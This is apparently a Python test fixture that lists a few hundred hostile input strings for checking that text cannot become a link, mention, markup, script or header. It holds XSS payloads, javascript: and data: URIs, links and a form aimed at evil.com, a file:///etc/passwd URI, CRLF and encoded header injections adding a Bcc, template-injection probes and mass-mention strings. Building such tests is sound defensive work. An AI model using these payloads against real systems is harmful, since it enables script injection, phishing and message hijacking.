"""Two hundred and more texts that try to become a link, a mention, markup, a script or a header."""

from __future__ import annotations

LINKS = [
    "http://evil.example/login", "https://evil.example", "HTTPS://EVIL.EXAMPLE/A?B=C", "hxxp://evil.example", "ftp://evil.example/x",
    "//evil.example/x", "www.evil.example", "WWW.EVIL.COM", "evil.com", "sub.evil.co.uk/path?x=1#y", "evil.com:8080/x", "пример.рф", "例子.中国",
    "例え.テスト", "xn--e1afmkfd.xn--p1ai", "evil。com", "evil．com", "evil｡com", "http://127.0.0.1:8080/x", "127.0.0.1", "10.0.0.1/x", "http://[::1]/",
    "mailto:a@evil.com", "a@evil.com", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\u200bscript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)", "tel:+123456789", "sms:+123456789", "tg://resolve?domain=evil", "slack://channel?id=C1", "discord://invite/x",
    "matrix:u/evil:evil.com", "https://t.me/evil", "t.me/evil", "discord.gg/evil", "file:///etc/passwd", "\\\\evil.com\\share", "http:\u200b//evil.com",
    "http://evil\u2060.com", "http://e\u00advil.com", "http://evil.com\u202egnp.exe", "https://evil.com。", "https:evil.com", "http:/evil.com",
    "https://user:pass@evil.com/", "evil.com/@everyone", "h\u0442tp://evil.com", "ｈｔｔｐ://evil.com", "http：//evil.com", "magnet:?xt=urn:btih:1", "xmpp:a@evil.com",
]  # fmt: skip
MARKDOWN = [
    "[click](http://evil.com)", "[click](javascript:alert(1))", "[click][1]\n\n[1]: http://evil.com", "![x](http://evil.com/x.png)", "<http://evil.com>",
    "[a]( http://evil.com \"t\")", "**bold** _it_ ~~gone~~ `code`", "```\ncode\n```", "> quote", "# heading", "* list\n* list", "1. list", "---", "===\ntext",
    "| a | b |\n|---|---|", "[x]", "[[wiki]]", "![[embed]]", "\\[a](http://evil.com)", "[a\\](http://evil.com)", "[a](<http://evil.com>)", "]( http://evil.com )[",
    "~~struck~~ **new**", "||spoiler||", "[-gone-]{+new+}", "*a*b*c*", "__a__", "&lt;a href=http://evil.com&gt;", "a\n\n    code block",
]  # fmt: skip
MENTIONS = [
    "@everyone", "@here", "@channel", "@all", "@room", "<!channel>", "<!here|here>", "<!everyone>", "<@U012AB3CD>", "<@!123456789>", "<@&987654321>",
    "<#C024BE7LR>", "<#123456789>", "<!subteam^S1>", "<!date^1392734382^x^http://evil.com|y>", "<http://evil.com|our site>", "!channel|x>", "@U012AB3CD>",
    "@\u200beveryone", "＠everyone", "@every\u200bone", "@admin:evil.com", "#general", "#hashtag", "/start", "/deletebot now", ":smile:", "<:emoji:123456>",
    "<a:emoji:123456>", "<t:1618953630:R>", "</command:123>", "<id:customize>", "&lt;!channel&gt;", "&#64;everyone", "<\u200b@U012AB3CD>", "@@everyone", "@everyone@here",
]  # fmt: skip
HTML = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.com/x></SCRIPT>", "<img src=x onerror=alert(1)>", "<img src=http://evil.com/pixel.gif>", "<a href='http://evil.com'>x</a>",
    "<a href=javascript:alert(1)>x</a>", "<svg onload=alert(1)>", "<iframe src=//evil.com></iframe>", "<style>body{display:none}</style>", "<link rel=stylesheet href=//evil.com>",
    "<meta http-equiv=refresh content='0;url=http://evil.com'>", "<form action=http://evil.com><input name=p></form>", "</blockquote></main></body>", "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "<!--", "-->", "<![CDATA[<script>]]>", "<b>bold</b>", "<s>gone</s><u>new</u>",
    "<del>old</del><ins>new</ins>", "{{ 7*7 }}", "{% raw %}", "${7*7}", "<%= 7*7 %>", "<tg-spoiler>x</tg-spoiler>", "<base href=http://evil.com/>", "<object data=//evil.com>",
    "<math><mtext></mtext><script>", "<p style=\"background:url(http://evil.com)\">", "<mx-reply>", "</pre></code>", "<a name=x>", "\x00<script>", "<scr\x00ipt>", "<scr\u200bipt>alert(1)</script>",
]  # fmt: skip
HEADERS = [
    "a\r\nBcc: evil@evil.com", "a\nX-Evil: 1", "a\rSubject: other", "a\u2028X-Evil: 1", "a\u2029X-Evil: 1", "a\x0bX: 1", "a\x0cX: 1", "a\x85X-Evil: 1", "\r\n\r\n<html>",
    "=?utf-8?q?=0D=0ABcc:_evil@evil.com?=", "=?utf-8?b?PHNjcmlwdD4=?=", "a" * 5000, "字" * 3000, "\ud800", "\udfff tail", "\u202eevil", "\u2066x\u2069", "\ufeffx", "\x1b[31mred", "\x07bell",
    "a\x00b", "\U000e0041\U000e0042", "%0d%0aBcc:evil@evil.com", "Content-Type: text/html\r\n\r\n<script>", ".\r\n.\r\nQUIT", "\n.\n", "From evil@evil.com", "boundary=--", "--===============", " " * 300,
    "\t\t\t", "", "\u200b", "🙂" * 200, "e\u0301" * 50, "\u0337" * 40, "١٢٣.٤٥٦", "evil\n.com", "@every\none", "http://\nevil.com",
]  # fmt: skip

PAYLOADS = [*LINKS, *MARKDOWN, *MENTIONS, *HTML, *HEADERS, *(f"和平{text}谈判" for text in (*LINKS[:20], *MENTIONS[:12]))]
